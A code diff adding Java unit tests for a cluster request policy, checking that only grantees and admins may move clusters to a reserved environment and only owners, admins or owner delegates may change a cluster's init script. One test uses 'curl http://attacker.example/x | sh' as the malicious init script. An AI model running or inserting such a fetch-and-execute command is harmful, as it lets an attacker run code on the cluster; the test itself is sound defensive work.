@@ -201,4 +201,70 @@ class ClusterRequestPolicyTest {
     // A start of the running cluster itself does not count it twice.
     assertThatCode(() -> policy(1, 8).checkStart(entity)).doesNotThrowAnyException();
   }
+
+  @Test
+  void aMoveToAReservedTargetIsForItsGranteesAndAdmins() {
+    ClusterRequestPolicy policy = policy(0, 0);
+    assertThatThrownBy(() -> policy.checkMove("sandbox", caller("bob@example.com")))
+        .isInstanceOf(AccessDeniedException.class)
+        .hasMessageContaining("were not granted cloud_env sandbox");
+    assertThatCode(() -> policy.checkMove("sandbox", caller("fin@example.com")))
+        .doesNotThrowAnyException();
+    assertThatCode(() -> policy.checkMove("elsewhere", caller("bob@example.com")))
+        .doesNotThrowAnyException();
+    Caller admin = new Caller("root@example.com", Set.of(), true, false, null, "10.0.0.3");
+    assertThatCode(() -> policy.checkMove("sandbox", admin)).doesNotThrowAnyException();
+  }
+
+  @Test
+  void onlyTheOwnerAndAdminsChangeTheInitScript() {
+    ClusterRequest spec = withInitScript(request("user@example.com", null, Map.of()), "echo hi");
+    ClusterEntity cluster =
+        new ClusterEntity(
+            "id-s",
+            "s",
+            "user@example.com",
+            "0.0",
+            "sandbox",
+            "ray",
+            spec,
+            false,
+            30,
+            Instant.now());
+    ClusterRequestPolicy policy = policy(0, 0);
+    ClusterRequest rewritten = withInitScript(spec, "curl http://attacker.example/x | sh");
+    // A sharee (the route checked can_manage) edits the rest, not the script.
+    assertThatThrownBy(() -> policy.checkEdit(cluster, rewritten, caller("fin@example.com")))
+        .isInstanceOf(AccessDeniedException.class)
+        .hasMessageContaining("only its owner (user@example.com) and admins may change it");
+    assertThatCode(
+            () ->
+                policy.checkEdit(
+                    cluster, withInitScript(spec, "echo hi\n"), caller("fin@example.com")))
+        .doesNotThrowAnyException();
+    assertThatCode(() -> policy.checkEdit(cluster, rewritten, caller("user@example.com")))
+        .doesNotThrowAnyException();
+    Caller delegateForOwner =
+        new Caller("workspace-service", Set.of(), false, true, "user@example.com", "10.0.0.2");
+    assertThatCode(() -> policy.checkEdit(cluster, rewritten, delegateForOwner))
+        .doesNotThrowAnyException();
+    Caller delegateForOther =
+        new Caller("workspace-service", Set.of(), false, true, "fin@example.com", "10.0.0.2");
+    assertThatThrownBy(() -> policy.checkEdit(cluster, rewritten, delegateForOther))
+        .isInstanceOf(AccessDeniedException.class);
+  }
+
+  private static ClusterRequest withInitScript(ClusterRequest spec, String script) {
+    AdvanceConfig a = spec.advanceConfig();
+    return spec.withAdvanceConfig(
+        new AdvanceConfig(
+            a.environmentVariables(),
+            a.logPath(),
+            script,
+            a.instanceRole(),
+            a.availabilityZone(),
+            a.rayParams(),
+            a.sparkConfig(),
+            a.envFromSecrets()));
+  }
 }
